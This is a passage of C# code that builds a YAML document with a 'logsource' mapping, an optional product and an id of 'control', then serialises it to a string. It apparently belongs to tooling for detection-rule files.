        root.Children[new YamlScalarNode("logsource")] = product is null ? new YamlMappingNode() : new YamlMappingNode(new YamlScalarNode("product"), new YamlScalarNode(product));
        root.Children[new YamlScalarNode("id")] = new YamlScalarNode("control");
        using var writer = new StringWriter();
        stream.Save(writer, assignAnchors: false);
        return (writer.ToString(), product);
    }
}
